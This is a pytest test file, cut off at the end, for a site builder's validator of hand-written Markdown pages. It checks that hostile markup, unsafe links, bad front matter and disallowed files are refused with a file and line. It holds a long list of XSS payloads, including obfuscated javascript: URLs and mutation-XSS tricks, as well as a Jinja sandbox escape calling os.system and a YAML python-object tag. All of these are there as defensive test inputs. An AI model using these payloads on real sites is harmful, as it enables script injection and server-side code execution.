"""Hand-written pages: what may stand in them, said with file and line, by the check and the build alike."""

import re
import sys
from pathlib import Path

import pytest

from portal import inspection, prose
from portal.parts.registry import KINDS
from portal.problem import DataError
from portal.prose import allowed, corrections, front_matter, handwritten, markup, rendering, settings, targets
from portal.prose.files import _OWNED
from tests.project import PAGES, ROOT, Build, copy_of_project
from tests.uploaded import photo, taken

SAID = settings.read(ROOT / "mkdocs.yml")
TOP = "---\ntitle: A page\ndescription: What it is about.\n---\n"

OWNED = inspection.owned(KINDS)
ANNOUNCED = [kind.section.key for kind in KINDS if kind.section is not None and kind.announced is not None]


def _project(folder: Path, text: str | bytes, name: str = "index.md") -> Path:
    docs = folder / "docs"
    (docs / name).parent.mkdir(parents=True, exist_ok=True)
    (docs / name).write_bytes(text.encode() if isinstance(text, str) else text)
    said = (ROOT / "mkdocs.yml").read_text("utf-8")
    without_menu = re.sub(r"^nav:\n(?: .*\n)+", "", said, flags=re.MULTILINE)
    assert without_menu != said
    (folder / "mkdocs.yml").write_text(without_menu, "utf-8")
    return docs


def _found(folder: Path, text: str | bytes, name: str = "index.md") -> list[str]:
    return [str(problem) for problem in prose.problems(_project(folder, text, name), {}, OWNED, ())]


# Each begins on line 9 of its page, after a listing that shows the same as text.
HOSTILE = [
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
    "<META HTTP-EQUIV=refresh CONTENT=0>",
    '<mEtA http-equiv="refresh" content="0"/>',
    '<x:meta xmlns:x="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0"/>',
    "words <meta http-equiv=refresh content=0> words",
    "<base href='https://evil.example/'>",
    "<base target='_top'/>",
    "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "<script>alert(1)</script>",
    "<ScRiPt src='https://evil.example/x.js'></sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<style>p { color: red }</style>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='x'></frameset>",
    "<object data='x.swf'></object>",
    "<embed src='x.swf'>",
    "<applet code='x'></applet>",
    "<portal src='x'></portal>",
    "<form action='https://evil.example/'><input type='password'></form>",
    "<input type='password'>",
    "<input formaction='https://evil.example/' type='submit'>",
    "<button formaction='https://evil.example/'>x</button>",
    "<select><option>x</option></select>",
    "<textarea></textarea>",
    "<isindex action='https://evil.example/'>",
    "<svg onload='alert(1)'></svg>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style>@import url(x)</style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><p>x</p></foreignObject></svg>",
    "<svg><set attributeName='href' to='javascript:alert(1)'/></svg>",
    "<math><mi href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<noembed></noembed>",
    "<noframes></noframes>",
    "<listing></listing>",
    "<marquee onstart='alert(1)'>x</marquee>",
    "<video poster='javascript:alert(1)'></video>",
    "<audio src='x' onerror='alert(1)'></audio>",
    "<dialog open>x</dialog>",
    "<custom-element>x</custom-element>",
    "<body onload='alert(1)'>",
    "<html manifest='x'>",
    "<head></head>",
    "<img src='x.png' onerror='alert(1)'>",
    "<img src=x onerror=alert(1)>",
    '<img src="x.png" srcset="https://evil.example/x 2x">',
    '<img src="https://evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img src="data:image/svg+xml,x">',
    '<img src="x.png" style="position:fixed">',
    '<img src="x.png"onerror="alert(1)">',
    '<p onclick="alert(1)">x</p>',
    "<p ONCLICK='alert(1)'>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p on\x20click='alert(1)'>x</p>",
    '<p style="background: red">x</p>',
    '<p style="">x</p>',
    '<p contenteditable="true">x</p>',
    '<p data-pagefind-ignore="">x</p>',
    '<p is="x">x</p>',
    '<p slot="x">x</p>',
    '<p xmlns="http://www.w3.org/2000/svg">x</p>',
    '<p tabindex="1">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="java&#x73cript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://shore.isle.org/x">x</a>',
    '<a href="ftp://evil.example/">x</a>',
    '<a href="webcal://evil.example/">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="https:///evil.example">x</a>',
    '<a href="https:/\\evil.example">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="https://shore.isle.org@evil.example/">x</a>',
    '<a href="https://shore.isle.org:x@evil.example/">x</a>',
    '<a href="https://127.0.0.1/">x</a>',
    '<a href="https://localhost/">x</a>',
    '<a href="https://[::1]/">x</a>',
    '<a href="https://[/">x</a>',
    '<a href="https://evil.example:99999999/">x</a>',
    '<a href="mailto:a@example.org?bcc=b@example.org">x</a>',
    '<a href="mailto:">x</a>',
    '<a href="a.md" ping="https://evil.example/">x</a>',
    '<a href="a.md" target="_top">x</a>',
    '<a href="a.md" download="x.exe">x</a>',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert)",
    "[x](java&#115;cript:alert)",
    "[x](data:text/html;base64,eA==)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](https://shore.isle.org@evil.example)",
    "[x](mailto:a@example.org?bcc=b@example.org)",
    "![x](https://evil.example/x.png)",
    "![x](data:image/png;base64,eA==)",
    "# Heading {: onclick=alert(1) }",
    "# Heading {onclick=alert(1)}",
    "Words\n{: onmouseover='alert(1)' }",
    "**x**{: style='color:red' }",
    "[x](a.md){: onclick=alert(1) }",
    "![x](a.png){ onerror=alert(1) }",
    "[x](a.md){: href=javascript:alert(1) }",
    "[x](a.md){: target=_top }",
    "[x](a.md){: .skip }",
    "# Heading {: .hero }",
    "<p class='visually-hidden'>x</p>",
    "<div class='grid search-dialog' markdown>\n\nx\n\n</div>",
    "- a\n{: .term }",
    "<svg viewBox='0 0 1 1'><use href='#x'/></svg>",
    "<svg viewBox='0 0 1 1'><path d='M0 0h1' style='fill:red'/></svg>",
    "<label for='x' onclick='alert(1)'>x</label>",
    "<input type='radio' autofocus>",
    "<input type='image' src='https://evil.example/x.png'>",
    "``` {.yaml onclick=alert(1)}\nx: 1\n```",
    "<div markdown>\n\n# Heading {: onclick=alert(1) }\n\n</div>",
    "<div markdown='1' onclick='alert(1)'>\n\nx\n\n</div>",
    "<div markdown='1'><script>alert(1)</script></div>",
    '!!! note "x"\n    <script>alert(1)</script>',
    "- a\n\n    <iframe src='x'></iframe>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "words[^1]\n\n[^1]: <script>alert(1)</script>",
    "term\n:   <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "<!-- > --> <img src=x onerror=alert(1)>",
    "<!--> <img src=x onerror=alert(1)> -->",
    "<!---> <img src=x onerror=alert(1)> -->",
    "<!-- --!> <img src=x onerror=alert(1)> -->",
    "<!-- <!-- --> <img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE html>",
    "<!ENTITY x 'y'>",
    "<?php echo 1 ?>",
    "<?xml version='1.0'?>",
    "<%= 1 %>",
    "</div>",
    "<div/>",
    '<a href="a.md"/>',
    "</br>",
    "</main>",
    "</p>",
    "<div>",
    "<details><summary>x</details>",
    "<b><i>x</b></i>",
    "<div class=unquoted>x</div>",
    '<div title="<script>">x</div>',
    "<div title='a>b'>x</div>",
    "<p id='a b'>x</p>",
    '<div data-component="0"></div>',
    "<ol start='-1x'><li>x</li></ol>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<div \u00a0onclick='x'>x</div>",
]


@pytest.mark.parametrize("page", HOSTILE)
def test_hostile_markup_is_refused_on_its_line(page: str, tmp_path: Path) -> None:
    shown = next(line for line in page.split("\n") if line).replace("`", "'")
    text = f"{TOP}```\n{shown}\n```\n\n{page}\n\nWords.\n"
    found = _found(tmp_path, text)
    if _is_text(page):
        return
    last = 8 + len(page.split("\n"))
    lines = {int(problem.split(":")[1]) for problem in found}
    assert lines, rendering.html(page, SAID)
    assert lines <= set(range(9, last + 1)), found
    assert min(lines) == next(n for n, line in enumerate(page.split("\n"), 9) if _suspicious(line)), found


def _is_text(page: str) -> bool:
    """Whether Markdown shows it as words: then nothing of it is live."""
    made = rendering.html(page, SAID)
    return "<" not in made.removeprefix("<p>").removesuffix("</p>")


def _suspicious(line: str) -> bool:
    return any(sign in line for sign in ("<", "](", "{")) and line.strip() not in {"<div markdown>"}


def test_few_of_them_are_only_text() -> None:
    """Else the test above would prove little."""
    assert sum(map(_is_text, HOSTILE)) <= 5
    assert len(HOSTILE) > 150


FRIENDLY = [
    "Words with a < b, a > b, AT&T, &copy; and `<script>alert(1)</script>`.",
    "```html\n<script>alert(1)</script>\n<p onclick='x'>\n```",
    "    <script>alert(1)</script>",
    "<!-- A note. -->",
    "[x](../a/b.md#c) [y](https://example.org/a?b=c&d=e#f) [z](mailto:a@example.org) <a@example.org> <https://e.org/>",
    "[x](https://example.org/ž?q=1:2) [y](#a:b) [z](a/b:c.md) [w](https://xn--bcher-kva.example/)",
    "![A school](school.png){ width=300 loading=lazy align=left }",
    '!!! note "A title"\n    Words.\n\n    ```yaml\n    a: 1\n    ```',
    "# Heading {: #here .lead }",
    "[Button](a.md){ .md-button .md-button--primary }",
    "| a | b |\n|:--|--:|\n| c | d |",
    "words[^1]\n\n[^1]: A note.",
    "term\n:   What it is.",
    '<div class="grid cards" markdown>\n\n- a\n- b\n\n</div>',
    "<details>\n<summary>More</summary>\n<p>Words<br>and <kbd>Ctrl</kbd>.</p>\n</details>",
    '<figure markdown="span">\n  ![x](a.png)\n  <figcaption>x</figcaption>\n</figure>',
    'H<sub>2</sub>O, <abbr title="x">y</abbr>, <mark>z</mark>, <br/>, <hr />',
    '<p lang="hr" dir="ltr">Škola</p>',
]


@pytest.mark.parametrize("page", FRIENDLY)
def test_ordinary_markdown_passes(page: str, tmp_path: Path) -> None:
    assert _found(tmp_path, f"{TOP}\n{page}\n") == []


EXTENDED = {
    "pymdownx.details": '??? note "x"\n    y\n\n???+ tip\n    z',
    "pymdownx.tabbed": '=== "A"\n\n    a\n\n=== "B"\n\n    b',
    "pymdownx.tasklist": "- [x] done\n- [ ] open",
    "pymdownx.keys": "++ctrl+alt+del++",
    "pymdownx.mark": "==x==",
    "pymdownx.caret": "^^x^^ and a^2^",
    "pymdownx.tilde": "~~x~~ and a~2~",
    "pymdownx.critic": "{--x--} {++y++}",
    "pymdownx.smartsymbols": "(c) -->",
    "pymdownx.magiclink": "https://example.org/",
    "pymdownx.arithmatex": "$x < y$",
    "pymdownx.inlinehilite": "`#!python a < 1`",
    "abbr": "The HTML\n\n*[HTML]: Hyper Text",
    "pymdownx.emoji": ":material-check: :fontawesome-brands-github:{ .lg }",
}


@pytest.mark.parametrize("extension", EXTENDED)
def test_what_material_documents_passes_once_it_is_switched_on(extension: str) -> None:
    config: dict[str, object] = {
        "pymdownx.tabbed": {"alternate_style": True},
        "pymdownx.tasklist": {"custom_checkbox": True},
        "pymdownx.arithmatex": {"generic": True},
    }.get(extension, {})  # type: ignore[assignment]
    if extension == "pymdownx.emoji":
        from material.extensions import emoji  # type: ignore[import-untyped]

        config = {"emoji_index": emoji.twemoji, "emoji_generator": emoji.to_svg}
    said = settings.Settings(extensions=(*SAID.extensions, extension), configs={**SAID.configs, extension: config})
    made = rendering.html(EXTENDED[extension], said)
    assert markup.offences(made, allowed.elements(said.extensions)) == []
    hostile = '<p onclick="x">y</p>\n\n<svg><script>x</script></svg>\n\n<input type="password">'
    assert len(markup.offences(rendering.html(hostile, said), allowed.elements(said.extensions))) >= 3


def test_what_markdown_makes_is_corrected_and_the_rest_stays() -> None:
    text = "| a |\n|--:|\n| b |\n\n- [x] c\n- [ ] d\n\n---\n\n![e/f](g.png)\n\n`<hr/>` :material-check:"
    made = corrections.corrected(rendering.html(text, SAID), lambda *, done: f"[{done}]")
    assert '<td class="align-right">b</td>' in made
    assert "[True]" in made
    assert "[False]" in made
    assert "<hr>" in made
    assert '<img alt="e/f" src="g.png">' in made
    assert "<code>&lt;hr/&gt;</code>" in made
    assert re.search(r'<path d="[^"]+"/></svg>', made)


def test_highlighted_listings_pass() -> None:
    config = {"use_pygments": True, "anchor_linenums": True, "line_spans": "__span", "pygments_lang_class": True}
    said = settings.Settings(extensions=SAID.extensions, configs={**SAID.configs, "pymdownx.highlight": config})
    made = rendering.html('```yaml title="a.yaml" linenums="1" hl_lines="1"\na: 1 # <x>\n```', said)
    assert 'class="filename"' in made
    assert markup.offences(made, allowed.elements(said.extensions)) == []


@pytest.mark.parametrize(
    ("page", "line", "message"),
    [
        (
            "Well done\n:smile:",
            7,
            ":smile: is a picture that readers would load from another host; write the sign itself: 😄",
        ),
        (
            "`:smile:`\n\n:+1:",
            8,
            ":+1: is a picture that readers would load from another host; write the sign itself: 👍",
        ),
        (
            "`:material-chek:`\n\n:material-chek: x",
            8,
            'no icon :material-chek: (did you mean ":material-check:"?); find',
        ),
        ("x\n\n!!! hero\n    y", 8, 'pages have no class "hero"; use one of: grid, cards, card, '),
        ("!!! warnin\n    y", 6, 'pages have no class "warnin" (did you mean "warning"?); use one of: '),
        ("x\n\n[y](a.md){ .md-button .md-button--primry }", 8, '(did you mean "md-button--primary"?)'),
    ],
)
def test_what_would_not_be_shown_as_it_was_meant_is_said(page: str, line: int, message: str, tmp_path: Path) -> None:
    (found,) = _found(tmp_path, f"{TOP}\n{page}\n")
    assert found.startswith(f"docs/index.md:{line}: ")
    assert message in found


@pytest.mark.parametrize(
    "page",
    [
        "```\n\n{{ hero() }}\n\n```",
        "<!--\n\n{{ hero() }}\n\n-->",
        "<a title='\n\n{{ hero() }}\n\n' onclick='x'>y</a>",
        '<div title="\n\n{{ hero() }}\n\n">y</div>',
        "<pre>\n\n{{ hero() }}\n\n</textarea>",
        "[x](\n\n{{ hero() }}\n\n)\n<div>",
    ],
)
def test_components_stand_in_the_text_and_nowhere_else(page: str, tmp_path: Path) -> None:
    assert _found(tmp_path, f"{TOP}\n{page}\n")


def test_components_may_stand_in_a_grid(tmp_path: Path) -> None:
    page = '<div class="grid" markdown>\n\n{{ hero() }}\n\n</div>\n\nOf {{ figure("hubs") }} hubs.'
    assert _found(tmp_path, f"{TOP}\n{page}\n") == []
    assert "components are not shown on this page" in _found(tmp_path / "b", f"{TOP}\n{page}\n", "about/b.md")[0]


@pytest.mark.parametrize(
    ("written", "line", "message"),
    [
        ("title: A\ndescription: B\ntemplate: pages/school.html\n", 3, "template is not allowed in a page"),
        ("title: A\ndescription: B\nrender_macros: true\n", 3, "render_macros is not allowed in a page"),
        ("title: A\ndescription: B\nhide: [toc]\n", 3, "not valid YAML"),
        ("title: A\ndescription: B\nhide: toc\n", 3, '"hide" is not allowed at the top of a page'),
        ("title: A\ndescriptoin: B\n", 2, '(did you mean "description"?)'),
        ("title: A\ndescription: B\nTitle: C\n", 3, '"Title" is not allowed at the top of a page'),
        ("title: A\ntitle: B\ndescription: C\n", 2, "title stands twice (first on line 2); keep one"),
        ("title: A\n", 1, "there is no description at the top"),
        ("description: A\n", 1, "there is no title at the top"),
        ("title:\ndescription: B\n", 1, "title"),
        ("title: ''\ndescription: B\n", 1, "title has no value"),
        ("title: 2022\ndescription: B\n", 1, "title is no text to YAML; put quotes"),
        ("title: yes\ndescription: B\n", 1, "title is no text to YAML"),
        ("title: 2022-01-01\ndescription: B\n", 1, "title is no text to YAML"),
        ("title: School #7\ndescription: B\n", 1, "title ends before its #"),
        ("title: a: b\ndescription: B\n", 1, "not valid YAML"),
        ("title: [broken\ndescription: B\n", 2, "not valid YAML"),
        ("title: 'broken\ndescription: B\n", 2, "not valid YAML"),
        ("title: !!python/name:os.system x\ndescription: B\n", 1, "not valid YAML"),
        ("title: !ENV HOME\ndescription: B\n", 1, "not valid YAML"),
        ("title: &a B\ndescription: *a\n", 1, "not valid YAML"),
        ("<<: {template: x}\ntitle: A\ndescription: B\n", 1, "not valid YAML"),
        ("? title\n: A\n? [x]\n: B\n", 3, "not valid YAML"),
        ("{title: A, description: B}\n", 1, "not valid YAML"),
        ("- title\n", 1, "not valid YAML"),
        ("words\n", 1, "not valid YAML"),
        ("\n", 1, "not valid YAML"),
        ("# x\n", 1, "not valid YAML"),
        ("title: '{{ config }}'\ndescription: B\n", 1, "title holds {{"),
        ("title: A\ndescription: 'x {% x'\n", 2, "description holds {{"),
        ("title: |\n  A\n  B\ndescription: C\n", 1, "title has several lines"),
        ("title: A\n" + "a: {" * 5000 + "\n", 2, "not valid YAML"),
        ("title: A\n...\ntemplate: x\n", 3, "not valid"),
        ("title: A\n--- \ntemplate: x\n", 2, "not valid"),
    ],
)
def test_front_matter_is_a_title_and_a_description(written: str, line: int, message: str) -> None:
    found = front_matter.faults(written)
    assert [fault for fault in found if fault.line == line and message in fault.message], found


@pytest.mark.parametrize(
    "text",
    [
        "# No title at the top\n",
        "template: pages/school.html\ntitle: x\n\nwords\n",
        "\n---\ntitle: A\ndescription: B\n---\n",
        " ---\ntitle: A\ndescription: B\n---\n",
        "---\ntitle: A\ndescription: B\n",
        "----\ntitle: A\ndescription: B\n----\n",
        "",
    ],
)
def test_a_page_begins_with_its_front_matter(text: str, tmp_path: Path) -> None:
    (found,) = _found(tmp_path, text)
    assert found.startswith("docs/index.md:1: the page does not begin with its title; begin it with three lines")


def test_line_ends_of_any_machine_pass(tmp_path: Path) -> None:
    assert _found(tmp_path, f"\ufeff{TOP}\nWords.\n".replace("\n", "\r\n").encode()) == []


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (TOP.encode() + b"\nwords \xff\n", "docs/index.md:6: byte 0xff is not UTF-8; save the file with the encoding"),
        (TOP.encode("utf-16"), "docs/index.md:1: byte 0xff is not UTF-8"),
        (f"{TOP}\na\x00b\n", "docs/index.md:6: the line has the invisible control character U+0000; retype it"),
        (f"{TOP}\na\x02wzxhzdk:0\x03b\n", "docs/index.md:6: the line has the invisible control character U+0002"),
        (f"{TOP}\na\u2028b\n", "docs/index.md:6: the line has the invisible control character U+2028"),
        (f"{TOP}\n{'>' * 3000} x\n", "docs/index.md:6: "),
        (f"{TOP}\nx\n\n{'> ' * 60} x\n", "docs/index.md:8: more than 40 things stand inside each other; "),
        (f"{TOP}\n{'a' * 60_000}\n", "docs/index.md:1: the page has 60"),
        (f"{TOP}\n{'[' * 2000}\n", 'docs/index.md:1: the page has 2000 signs "[" and the limit is 1000; make two'),
        (f"{TOP}\n{'<' * 2000}\n", 'docs/index.md:1: the page has 2000 signs "<" and the limit is 1000; make two'),
    ],
)
def test_pages_that_cannot_be_read_give_one_line(text: str | bytes, message: str, tmp_path: Path) -> None:
    (found,) = _found(tmp_path, text)
    assert found.startswith(message)
    assert sys.getrecursionlimit() <= 3000


def test_a_page_at_the_limits_is_read(tmp_path: Path) -> None:
    text = f"{TOP}\n" + "[" * handwritten.MAX_SIGNS + "\n\n" + "<a " * (handwritten.MAX_SIGNS // 2)
    assert all("limit" not in line for line in _found(tmp_path, text))


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("evil.html", "only pages (.md) and pictures (.png, .jpg, .jpeg, .webp) are published from here; "),
        ("about/evil.js", "only pages"),
        *((f"evil.{end}", "only pages") for end in ("svg", "xml", "css", "htm", "xhtml", "mjs", "wasm", "json", "txt")),
        ("evil.HTML", "only pages"),
        ("evil", "only pages"),
        ("page.markdown", "only pages"),
        ("page.MD", "only pages"),
        ("evil.pdf", "put files to take along in data/files"),
        ("_headers", "the portal makes this file itself; delete it"),
        ("_redirects", "the portal makes this file itself"),
        ("robots.txt", "the portal makes this file itself"),
        ("sitemap.xml", "the portal makes this file itself"),
        ("feed.xml", "the portal makes this file itself"),
        ("404.md", "the portal makes this file itself"),
        ("api/schools.json", "stands where a page is generated: /api/ is made from records; put the file elsewhere"),
        ("pagefind/pagefind.js", "stands where a page is generated: /pagefind/"),
        ("hubs/hr-hub-1.md", "stands where a page is generated: /hubs/"),
        ("schools/x/index.md", "stands where a page is generated: /schools/"),
        ("network.md", "stands where a page is generated: /network/"),
        ("assets/images/x.png", "stands where a page is generated: /assets/images/"),
        ("assets/evil.html", "docs/assets holds what pages load, files that end in "),
        ("assets/page.md", "docs/assets holds what pages load"),
        ("About.md", "the name is part of an address; rename it with small letters from a to z, digits and hyphens"),
        ("a b.md", "the name is part of an address"),
        ("über.md", "the name is part of an address"),
        ('x"onload.md', "the name is part of an address"),
        ("a.b.md", "the name is part of an address"),
        ("-.md", "the name is part of an address"),
        ("page.png", "is no picture of the kind that its ending says (.png); export it again"),
    ],
)
def test_only_pages_and_pictures_are_published(name: str, message: str, tmp_path: Path) -> None:
    found = _found(tmp_path, f"{TOP}\nWords.\n", name)
    assert [line for line in found if line.startswith(f"docs/{name}:1: ") and message in line], found


def test_a_page_with_the_words_of_a_list_shows_the_list(tmp_path: Path) -> None:
    path = "library/index.md"
    docs = _project(tmp_path, f'{TOP}\nWords.\n\n{{{{ records("news") }}}}\n', path)
    (problem,) = prose.problems(docs, {}, ["library/"], [], ["library/", "news/"])
    assert problem.file == f"docs/{path}"
    assert 'the page does not show what comes from records; add a line {{ records("library") }}' in problem.message
    page = docs / path
    page.write_text(page.read_text("utf-8").replace('"news"', '"library"'), "utf-8")
    assert prose.problems(docs, {}, ["library/"], [], ["library/", "news/"]) == []


def test_a_picture_beside_a_page_and_hidden_files_pass(tmp_path: Path) -> None:
    docs = _project(tmp_path, f"{TOP}\n![x](school.png)\n")
    (docs / "school.png").write_bytes(photo("PNG"))
    (docs / ".DS_Store").write_bytes(b"\x00")
    assert prose.problems(docs, {}, OWNED, ()) == []


@pytest.mark.every_network
def test_generated_files_lie_where_no_page_may(site: Path) -> None:
    docs = {path.relative_to(PAGES).as_posix() for path in PAGES.rglob("*")}
    docs |= {path.relative_to(ROOT / "docs").as_posix() for path in (ROOT / "docs" / "assets").rglob("*")}
    ours = {f"{path.removesuffix('index.md')}index.html" for path in docs} | docs
    for path in site.rglob("*"):
        name = path.relative_to(site).as_posix()
        if path.is_file() and name not in ours and name != "assets/touch-icon.png":
            page = name.removesuffix("/index.html") + ".md" if name.endswith("/index.html") else name
            assert list(prose.files._faults(path, page, _OWNED.union(OWNED))), name


def test_addresses() -> None:
    assert targets.link("https://example.org:8443/a?b=https://c.example/#d") is None
    assert targets.link("HTTPS://EXAMPLE.ORG/") is None
    assert targets.link("a.md?x=javascript:1") is None
    assert targets.picture("../a/b.png#only-light") is None
    assert "has a user name" in str(targets.link("https://a@b.example/"))
    assert "own network" in str(targets.link("http://localhost/"))
    assert "nothing after it" in str(targets.link("mailto:office@school.eu?bcc=x@y.eu"))


@pytest.mark.parametrize(
    "written",
    [
        "[https://shore.isle.org](https://evil.example/)",
        '[shore.isle.org](https://evil.example/ "x")',
        "[**shore.**isle.org](https://evil.example/)",
        "[office@shore.isle.org](mailto:office@evil.example)",
        '<a href="https://evil.example/">www.shore.<b>isle</b>.org</a>',
        '<a class="md-button" href="https://evil.example/"><em>shore&#46;isle.org</em></a>',
    ],
)
def test_a_link_whose_words_name_another_place_is_refused_with_its_line(written: str, tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "page.md").write_text(f"---\ntitle: A\ndescription: B.\n---\n\nWords\n\nSee {written}.\n", "utf-8")
    (problem,) = prose.problems(docs, {}, OWNED, ())
    assert str(problem).startswith("docs/page.md:8: "), problem
    assert "and leads to" in str(problem)
    for fair in (
        "[shore.isle.org](https://shore.isle.org/a)",
        "[the site](https://evil.example/)",
        "<https://a.example/b>",
        "[the plan.pdf](../plan.md)",
        "<office@school.eu>",
    ):
        (docs / "page.md").write_text(f"---\ntitle: A\ndescription: B.\n---\n\nSee {fair}.\n", "utf-8")
        assert prose.problems(docs, {}, OWNED, ()) == []


def test_a_hostile_folder_stops_check_and_build_with_the_same_words_and_writes_nothing(
    tmp_path: Path, build: Build
) -> None:
    project = copy_of_project(tmp_path)
    door = tmp_path / "door"
    pages_of = project / "docs"
    escape = f"{{{{ cycler.__init__.__globals__.os.system('touch {door}') }}}}"
    for name in ("index.md", "contribute/index.md"):
        page = pages_of / name
        page.write_text(page.read_text("utf-8") + f"\n{escape}\n\n<script>x</script>\n", "utf-8")
    (pages_of / "evil.html").write_text("x", "utf-8")
    (pages_of / "broken.md").write_bytes(b"\xff")
    with pytest.raises(DataError) as caught:
        from portal import inspection

        inspection.read(project / "data", docs=pages_of)
    assert {problem.file for problem in caught.value.problems} == {
        "docs/index.md",
        "docs/contribute/index.md",
        "docs/evil.html",
        "docs/broken.md",
    }
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    assert not (tmp_path / "site").exists()
    assert not door.exists()
    said = "".join((result.stdout + result.stderr).split())
    assert "Traceback" not in said
    for problem in caught.value.problems:
        assert "".join(str(problem).split()) in said


@pytest.mark.parametrize(
    "text",
    [
        "\n\n".join(f"[x](javascript:{number})" for number in range(900)),
        "\n\n".join(f"[x](java&#115;cript\\:{number})" for number in range(900)),
        "\n\n".join(f"<p a{number}='b'>x</p>" for number in range(450)),
        "<p a='b'>x</p>\n\n" + "a " * 24_000,
        f"<p {'a=b ' * 12_000}>x</p>",
        "<p " + "a='b' " * 8_000 + ">x</p>",
        "<p " + " ".join(f"a{number}='b'" for number in range(4_000)) + ">x</p>",
        "<div>" * 900,
        "</div>" * 900,
        "<div>" * 450 + "</p>" * 450,
    ],
)
def test_faults_of_a_long_page_are_found_in_bounded_time(text: str, tmp_path: Path) -> None:
    """Each took minutes while the work was faults times places; a hang would end the run."""
    assert _found(tmp_path, f"{TOP}\n{text}\n")


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("# a\n" * 401, 401, "more than 400 lines stand without an empty line"),
        ("a\n-\n" * 201, 401, "more than 400 lines stand without an empty line"),
        ("> " + "a\n> " * 401, 401, "more than 400 lines stand without an empty line"),
        ("a|" * 61 + "\n" + "-|" * 61 + "\n" + "a\n" * 300, 5, "more than 60 signs |"),
        ((f"{'a|' * 50}\n{'-|' * 50}\n" + "a\n" * 380 + "\n") * 2, 398, "more than 20000 cells"),
        ("[TOC]\n\n" * 4, 1, "more than 3 tables of contents"),
        ("[toc]\n\n" * 4, 1, "more than 3 tables of contents"),
    ],
)
def test_what_takes_markdown_long_in_a_short_page_is_refused(
    text: str, line: int, message: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(rendering, "html", lambda *_said: pytest.fail("it was given to Markdown"))
    (found,) = _found(tmp_path, TOP + text)
    assert found.startswith(f"docs/index.md:{line}: ")
    assert message in found


def test_long_listings_lists_and_tables_pass(tmp_path: Path) -> None:
    table = "| a | b |\n|---|---|\n" + "| c | d |\n" * 200
    listing = "```\n" + "a = 1\n" * 300 + "```\n"
    assert _found(tmp_path, f"{TOP}[TOC]\n\n{table}\n{listing}\n" + "- a\n" * 300) == []


@pytest.mark.parametrize("path", ["files/a.md", "images/a.md", "files/a/index.md", "files.md", "images/a.png"])
def test_nothing_of_ours_stands_among_what_was_sent(path: str, tmp_path: Path) -> None:
    assert "stands where a page is generated" in _found(tmp_path, TOP, path)[0]


def test_pictures_beside_pages_are_judged_and_cut(tmp_path: Path) -> None:
    from portal.prose.files import published

    content = photo(exif=taken(way_up=6), comment=b"words")
    docs = _project(tmp_path, content, "about/a.jpg")
    assert prose.problems(docs, {}, OWNED, ()) == []
    cut = published(docs, "about/a.jpg")
    assert cut is not None
    assert not [words for words in (b"Maker", b"GPS", b"words", b"N\0\0\0") if words in cut]
    assert b"\x01\x12\0\x03\0\0\0\x01\0\x06" in cut
    (docs / "about/a.jpg").write_bytes(content[:200])
    assert [str(problem) for problem in prose.problems(docs, {}, OWNED, ())] == [
        "docs/about/a.jpg:1: is damaged; save it anew"
    ]
    assert published(docs, "assets/a.png") is None


def test_two_pages_have_two_addresses(tmp_path: Path) -> None:
    docs = _project(tmp_path, TOP, "a/index.md")
    (docs / "a.md").write_text(TOP, "utf-8")
    for name in ("index.md", "x.md", "xindex.md"):
        (docs / name).write_text(TOP, "utf-8")
    (found,) = prose.problems(docs, {}, OWNED, ())
    assert str(found) == "docs/a.md:1: has the same address as docs/a/index.md (/a/); rename one of them"


@pytest.mark.parametrize("path", ["con.md", "aux/a.md", "nul.png"])
def test_names_that_windows_cannot_write_are_refused(path: str, tmp_path: Path) -> None:
    assert "which Windows keeps for itself" in _found(tmp_path, TOP, path)[0]


def test_a_page_is_in_the_menu(tmp_path: Path) -> None:
    """MkDocs in strict mode refuses a page that is not, and the check would have said that all is well."""
    docs = _project(tmp_path, f"{TOP}Words.\n", "about/new.md")
    assert prose.problems(docs, {}, OWNED, ()) == []
    (tmp_path / "mkdocs.yml").write_text(
